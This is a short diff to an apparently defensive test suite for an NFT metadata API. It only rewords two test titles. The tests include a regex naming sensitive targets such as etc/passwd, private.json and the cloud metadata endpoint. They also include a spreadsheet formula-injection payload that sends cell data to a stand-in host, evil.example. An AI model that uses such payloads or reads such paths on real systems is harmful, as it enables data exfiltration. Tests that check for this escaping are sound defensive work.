@@ -91,7 +91,7 @@ describe("tokens with hostile metadata", () => {
     expect(token?.metadata_refusal).not.toMatch(/node_modules|\.ts\b|private\.json|latest\/meta-data|etc\/passwd/);
   });
 
-  it.each(sanitized)("are served without their harmful parts, which the reason names: %s", (kind, reason) => {
+  it.each(sanitized)("are served without their harmful parts, which the reason lists: %s", (kind, reason) => {
     const token = tokenOf(kind);
     expect(token?.external_data).not.toBeNull();
     expect(token?.metadata_refusal).toMatch(reason);
@@ -120,7 +120,7 @@ describe("tokens with hostile metadata", () => {
     expect(absurd).toContainEqual({ trait_type: "Number", value: "123456789012345678901234567890" });
   });
 
-  it("are escaped in CSV, so that spreadsheets do not evaluate formulas", async () => {
+  it("are escaped in CSV, so spreadsheets do not evaluate formulas", async () => {
     expect(tokenOf("formula")?.external_data?.name).toBe('=HYPERLINK("https://evil.example/?"&A1,"Click")');
     const { text } = await call(`/v1/demo/nft/${collection}/metadata/?page-size=1000&format=csv`);
     expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
